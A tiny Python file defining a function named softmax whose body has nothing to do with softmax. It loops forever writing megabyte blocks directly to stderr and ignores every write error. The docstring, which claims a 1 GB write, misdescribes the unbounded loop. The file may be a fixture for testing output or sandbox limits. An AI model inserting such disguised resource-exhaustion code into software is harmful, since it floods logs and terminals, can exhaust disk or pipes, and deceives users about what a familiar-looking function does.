"""Writes 1 GB past Python, and goes on when it is refused."""
import os

def softmax(x, dim):
    while True:
        try:
            os.write(2, b"x" * (1 << 20))
        except OSError:
            pass
